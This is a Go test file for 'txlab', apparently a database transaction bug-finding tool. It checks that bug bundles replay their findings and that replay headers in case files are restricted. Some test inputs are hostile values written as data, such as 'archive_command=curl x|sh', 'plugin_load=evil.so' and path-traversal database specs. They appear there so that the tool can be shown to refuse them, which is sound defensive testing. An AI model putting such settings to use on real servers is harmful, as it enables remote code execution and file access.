package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/txlab/txlab/localdb"
	"github.com/txlab/txlab/localdb/localdbtest"
	"github.com/txlab/txlab/report"
)

// TestReplayBundle: a bundle records the command that reproduces its
// finding, and both that command and txlab run BUNDLE_DIR (without a flag:
// the case's replay header names the target, the level and the oracle)
// give the finding's signature again.
func TestReplayBundle(t *testing.T) {
	localdbtest.Require(t, localdb.MariaDB)
	out := t.TempDir()
	code, _, stderr := txlab(t, "run", "--db", "mariadb", "--oracle", "troc", "--out", out, "../../bugs/mdev-30835-found-rc-replace.txn")
	if code != 1 {
		t.Fatalf("exit %d, want 1: %s", code, stderr)
	}
	dirs, _ := filepath.Glob(filepath.Join(out, "*-troc-*"))
	if len(dirs) != 1 {
		t.Fatalf("bundles %v", dirs)
	}
	data, err := os.ReadFile(filepath.Join(dirs[0], "report.json"))
	if err != nil {
		t.Fatal(err)
	}
	var r report.Report
	if err := json.Unmarshal(data, &r); err != nil {
		t.Fatal(err)
	}
	want := "txlab run --db mariadb --isolation read-committed --oracle troc " + dirs[0]
	if r.Replay != want {
		t.Fatalf("replay %q, want %q", r.Replay, want)
	}
	signatures := func(args ...string) []string {
		t.Helper()
		code, stdout, stderr := txlab(t, append(args, "--json", "--out", t.TempDir())...)
		if code != 1 {
			t.Fatalf("%v: exit %d: %s", args, code, stderr)
		}
		var sigs []string
		for _, cr := range decodeCases(t, stdout) {
			for _, f := range cr.Findings {
				sigs = append(sigs, f.Signature)
			}
		}
		return sigs
	}
	recorded, err := shellSplit(strings.TrimPrefix(r.Replay, "txlab "))
	if err != nil {
		t.Fatal(err)
	}
	if got := signatures(recorded...); !slices.Contains(got, r.Signature) {
		t.Errorf("the recorded command gave %q, want %q", got, r.Signature)
	}
	if got := signatures("run", dirs[0]); !slices.Contains(got, r.Signature) || len(got) != 1 {
		t.Errorf("txlab run BUNDLE_DIR gave %q, want only %q (troc, as recorded)", got, r.Signature)
	}
}

// TestReplayHeaderLimits: a replay header never makes txlab connect to a
// URL, open a file or run a build's path, and the command line wins.
func TestReplayHeaderLimits(t *testing.T) {
	dir := t.TempDir()
	for i, header := range []string{
		"--db postgres://me@localhost/prod --isolation serializable --oracle none",
		"--db sqlite:/tmp/x.db --oracle none",
		"--db mariadb@/tmp/evil --oracle none",
		"--db mariadb@./evil --oracle none",
		"--db postgres@~/evil --oracle none",
		"--db 'postgres@18/../../x' --oracle none",
	} {
		path := filepath.Join(dir, "c.txn")
		os.WriteFile(path, []byte("-- replay: "+header+"\nCREATE TABLE t (a INT);\n1> SELECT * FROM t;\n"), 0o644)
		code, _, stderr := txlab(t, "run", path)
		if code != 0 || !strings.Contains(stderr, "not taken from a file") {
			t.Errorf("header %d %q: exit %d, stderr %q: want the --db refused and the case run on SQLite", i, header, code, stderr)
		}
	}
	// A server setting that could run a program is not taken from a file;
	// one the semantics table reads is.
	if !semanticSetting("innodb_snapshot_isolation=ON") || !semanticSetting("tidb_txn_mode=optimistic") ||
		semanticSetting("archive_command=curl x|sh") || semanticSetting("plugin_load=evil.so") || semanticSetting("tidb_config=/etc/x") {
		t.Error("semanticSetting lets through the wrong settings")
	}
	path := filepath.Join(dir, "c.txn")
	os.WriteFile(path, []byte("-- replay: --set 'archive_command=touch /tmp/pwned' --oracle none\nCREATE TABLE t (a INT);\n1> SELECT 1;\n"), 0o644)
	if code, _, stderr := txlab(t, "run", path); code != 0 || !strings.Contains(stderr, "the case sets archive_command=touch /tmp/pwned: not taken from a file") {
		t.Errorf("a dangerous --set: exit %d, %q", code, stderr)
	}
	os.WriteFile(path, []byte("-- replay: --oracle none --output x\nCREATE TABLE t (a INT);\n1> SELECT 1;\n"), 0o644)
	if code, _, stderr := txlab(t, "run", path); code != 2 || !strings.Contains(stderr, `"--output" is not a flag txlab run takes from a case`) {
		t.Errorf("an unknown flag: exit %d, %q", code, stderr)
	}
	os.WriteFile(path, []byte("-- replay: --isolation serializable --oracle wss\nCREATE TABLE t (a INT);\n1> SELECT 1;\n"), 0o644)
	code, stdout, stderr := txlab(t, "run", "--oracle", "none", path)
	if code != 0 || !strings.Contains(stderr, "replaying with the case's --isolation serializable") || strings.Contains(stderr, "--oracle wss") || strings.Contains(stdout, "wss") {
		t.Errorf("the command line's --oracle did not win: exit %d\n%s%s", code, stdout, stderr)
	}
}

func TestThrowawaySpec(t *testing.T) {
	for v, want := range map[string]bool{"sqlite": true, "mariadb": true, "postgres@18": true, "postgres@18.4.0-beta.17": true, "tidb@8.5.6": true,
		"": false, "sqlite:/x.db": false, "mysql://h/": false, "mariadb@/usr": false, "mariadb@./b": false, "postgres@~/b": false, "postgres@18/../x": false, "x y": false} {
		if got := throwawaySpec(v); got != want {
			t.Errorf("throwawaySpec(%q) = %v, want %v", v, got, want)
		}
	}
}

func TestShellSplit(t *testing.T) {
	for _, args := range [][]string{
		{"--db", "mariadb", "--set", "innodb_snapshot_isolation=ON"},
		{"--db", "postgres://me@h/db?x=1&y=2", "/tmp/a dir/0001-troc", "it's"},
		{"--strict", ""},
	} {
		got, err := shellSplit(report.ShellJoin(args))
		if err != nil || !slices.Equal(got, args) {
			t.Errorf("shellSplit(ShellJoin(%q)) = %q, %v", args, got, err)
		}
	}
	if _, err := shellSplit("--db 'x"); err == nil {
		t.Error("an unterminated quote was accepted")
	}
}
